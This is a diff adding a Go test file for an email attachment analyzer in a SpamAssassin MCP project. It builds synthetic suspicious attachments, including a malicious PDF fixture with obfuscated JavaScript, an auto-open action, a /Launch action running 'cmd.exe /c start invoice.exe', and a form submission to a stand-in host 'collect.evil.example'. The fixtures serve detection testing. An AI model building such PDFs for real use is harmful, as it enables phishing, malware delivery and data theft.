@@ -0,0 +1,210 @@
+package main
+
+import (
+	"archive/zip"
+	"bytes"
+	"compress/zlib"
+	"crypto/md5"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"spamassassin-mcp/internal/attachments"
+	"spamassassin-mcp/internal/handlers"
+)
+
+// zipArchive builds a ZIP archive; entries named with a leading '!' are
+// marked as encrypted.
+func zipArchive(t *testing.T, names ...string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	w := zip.NewWriter(&buf)
+	for _, name := range names {
+		fh := &zip.FileHeader{Name: strings.TrimPrefix(name, "!"), Method: zip.Store}
+		if strings.HasPrefix(name, "!") {
+			fh.Flags |= 0x1
+		}
+		f, err := w.CreateHeader(fh)
+		if err != nil {
+			t.Fatal(err)
+		}
+		f.Write([]byte("content of " + name))
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func TestAnalyzeAttachments(t *testing.T) {
+	env := newTestEnv(t, nil)
+
+	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 120)...)
+	jpeg := append([]byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00"), make([]byte, 64)...)
+	files := []struct {
+		filename, contentType string
+		content               []byte
+	}{
+		{"invoice.pdf.exe", "application/pdf", exe},
+		{"docs.zip", "application/zip", zipArchive(t, "readme.txt", "!payload.js")},
+		{"report.docm", "application/vnd.ms-word.document.macroEnabled.12", zipArchive(t, "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")},
+		{"photo.jpg", "image/jpeg", jpeg},
+	}
+
+	var b strings.Builder
+	b.WriteString("From: alice@example.com\r\nTo: bob@example.org\r\nSubject: Files\r\nMIME-Version: 1.0\r\n")
+	b.WriteString("Content-Type: multipart/mixed; boundary=B1\r\n\r\n--B1\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n")
+	for _, f := range files {
+		b.WriteString("--B1\r\nContent-Type: " + f.contentType + "\r\nContent-Transfer-Encoding: base64\r\n")
+		b.WriteString("Content-Disposition: attachment; filename=\"" + f.filename + "\"\r\n\r\n")
+		b.WriteString(base64.StdEncoding.EncodeToString(f.content) + "\r\n")
+	}
+	b.WriteString("--B1--\r\n")
+
+	var result handlers.AnalyzeAttachmentsResult
+	if res := env.call(t, "analyze_attachments", map[string]any{"content": b.String()}, &result); res.IsError {
+		t.Fatalf("analyze_attachments failed: %s", resultText(res))
+	}
+	if len(result.Attachments) != len(files) {
+		t.Fatalf("got %d attachments, want %d", len(result.Attachments), len(files))
+	}
+
+	tests := []struct {
+		path     string
+		detected string
+		flags    []string
+		risk     attachments.Risk
+	}{
+		{"1.2", "application/vnd.microsoft.portable-executable", []string{attachments.DoubleExtension, attachments.Executable, attachments.TypeMismatch}, attachments.High},
+		{"1.3", "application/zip", []string{attachments.EncryptedArchive, attachments.ArchivedExecutable}, attachments.High},
+		{"1.4", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", []string{attachments.Macros}, attachments.High},
+		{"1.5", "image/jpeg", []string{}, attachments.Low},
+	}
+	for i, tt := range tests {
+		a := result.Attachments[i]
+		if a.Path != tt.path || a.Filename != files[i].filename || a.DetectedType != tt.detected || !slices.Equal(a.Flags, tt.flags) || a.Risk != tt.risk {
+			t.Errorf("%s: got %s %s %v %s, want %s %s %v %s", files[i].filename,
+				a.Path, a.DetectedType, a.Flags, a.Risk, tt.path, tt.detected, tt.flags, tt.risk)
+		}
+		sha := sha256.Sum256(files[i].content)
+		md := md5.Sum(files[i].content)
+		if a.Size != len(files[i].content) || a.SHA256 != hex.EncodeToString(sha[:]) || a.MD5 != hex.EncodeToString(md[:]) {
+			t.Errorf("%s: unexpected size or hashes: %+v", files[i].filename, a)
+		}
+	}
+	if a := result.Attachments[1]; !slices.Equal(a.Entries, []string{"readme.txt", "payload.js"}) {
+		t.Errorf("archive entries = %v", a.Entries)
+	}
+	if result.HighRisk != 3 {
+		t.Errorf("high risk = %d, want 3", result.HighRisk)
+	}
+}
+
+// pdfDocument builds a PDF from object bodies, numbered from 1, and the
+// objects compressed into an object stream, numbered after them.
+func pdfDocument(t *testing.T, objects []string, compressed []string) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+	for i, body := range objects {
+		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, body)
+	}
+	if len(compressed) > 0 {
+		var header, content strings.Builder
+		for i, body := range compressed {
+			fmt.Fprintf(&header, "%d %d ", len(objects)+i+1, content.Len())
+			content.WriteString(body + "\n")
+		}
+		var z bytes.Buffer
+		w := zlib.NewWriter(&z)
+		w.Write([]byte(header.String() + content.String()))
+		if err := w.Close(); err != nil {
+			t.Fatal(err)
+		}
+		fmt.Fprintf(&b, "%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n",
+			len(objects)+len(compressed)+1, len(compressed), header.Len(), z.Len())
+		b.Write(z.Bytes())
+		b.WriteString("\nendstream\nendobj\n")
+	}
+	b.WriteString("trailer\n<< /Root 1 0 R >>\n%%EOF\n")
+	return b.Bytes()
+}
+
+func TestAnalyzePDFAttachments(t *testing.T) {
+	env := newTestEnv(t, nil)
+
+	malicious := pdfDocument(t, []string{
+		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AcroForm << /Fields [] >> /Names << /EmbeddedFiles << /Names [(doc) 6 0 R] >> >> >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"<< /Type /Page /Parent 2 0 R /AA << /O 5 0 R >> /Contents 7 0 R >>",
+		"<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\); this.submitForm\\(\\)) /Next 8 0 R >>",
+		"<< /S /Launch /Win << /F (cmd.exe) /P (/c start invoice.exe) >> >>",
+		"<< /Type /Filespec /F (invoice.pdf) /UF <FEFF0069006E0076006F006900630065002E006500780065> /EF << /F 9 0 R >> >>",
+		"<< /Length 12 >>\nstream\n/JS (ignored)\nendstream",
+	}, []string{
+		"<< /S /SubmitForm /F << /FS /URL /F (https://collect.evil.example/post) >> /Flags 4 >>",
+		"<< /Type /EmbeddedFile /Length 0 >>",
+	})
+	clean := pdfDocument(t, []string{
+		"<< /Type /Catalog /Pages 2 0 R >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.com/terms) >> >>] >>",
+	}, nil)
+
+	var b strings.Builder
+	b.WriteString("From: alice@example.com\r\nTo: bob@example.org\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\n")
+	b.WriteString("Content-Type: multipart/mixed; boundary=B1\r\n\r\n")
+	for _, f := range []struct {
+		name    string
+		content []byte
+	}{{"invoice.pdf", malicious}, {"terms.pdf", clean}} {
+		b.WriteString("--B1\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n")
+		b.WriteString("Content-Disposition: attachment; filename=\"" + f.name + "\"\r\n\r\n")
+		b.WriteString(base64.StdEncoding.EncodeToString(f.content) + "\r\n")
+	}
+	b.WriteString("--B1--\r\n")
+
+	var result handlers.AnalyzeAttachmentsResult
+	if res := env.call(t, "analyze_attachments", map[string]any{"content": b.String()}, &result); res.IsError {
+		t.Fatalf("analyze_attachments failed: %s", resultText(res))
+	}
+	if len(result.Attachments) != 2 {
+		t.Fatalf("got %d attachments", len(result.Attachments))
+	}
+
+	a := result.Attachments[0]
+	wantFlags := []string{attachments.PDFJavaScript, attachments.PDFLaunch, attachments.PDFEmbeddedFile,
+		attachments.ArchivedExecutable, attachments.PDFFormSubmission, attachments.PDFAutoAction, attachments.PDFObfuscatedNames}
+	if !slices.Equal(a.Flags, wantFlags) || a.Risk != attachments.High {
+		t.Errorf("flags = %v (%s), want %v", a.Flags, a.Risk, wantFlags)
+	}
+	pdf := a.PDF
+	if pdf == nil {
+		t.Fatal("no PDF report")
+	}
+	if pdf.Objects != 10 || pdf.Streams != 2 || pdf.ObjectStreams != 1 || !pdf.ObfuscatedNames || pdf.Incomplete {
+		t.Errorf("unexpected structure: %+v", pdf)
+	}
+	for name, want := range map[string]int{"/JavaScript": 1, "/JS": 1, "/OpenAction": 1, "/AA": 1, "/Launch": 1, "/SubmitForm": 1, "/EmbeddedFile": 1, "/AcroForm": 1, "/ObjStm": 1} {
+		if pdf.Indicators[name] != want {
+			t.Errorf("indicator %s = %d, want %d", name, pdf.Indicators[name], want)
+		}
+	}
+	if !slices.Equal(pdf.LaunchTargets, []string{"cmd.exe /c start invoice.exe"}) ||
+		!slices.Equal(pdf.EmbeddedFiles, []string{"invoice.exe"}) ||
+		!slices.Equal(pdf.SubmitTargets, []string{"https://collect.evil.example/post"}) {
+		t.Errorf("unexpected targets: %+v", pdf)
+	}
+
+	a = result.Attachments[1]
+	if len(a.Flags) != 0 || a.Risk != attachments.Low || a.PDF == nil || !slices.Equal(a.PDF.URIs, []string{"https://example.com/terms"}) {
+		t.Errorf("unexpected result for a plain PDF: %v %s %+v", a.Flags, a.Risk, a.PDF)
+	}
+	if result.HighRisk != 1 {
+		t.Errorf("high risk = %d, want 1", result.HighRisk)
+	}
+}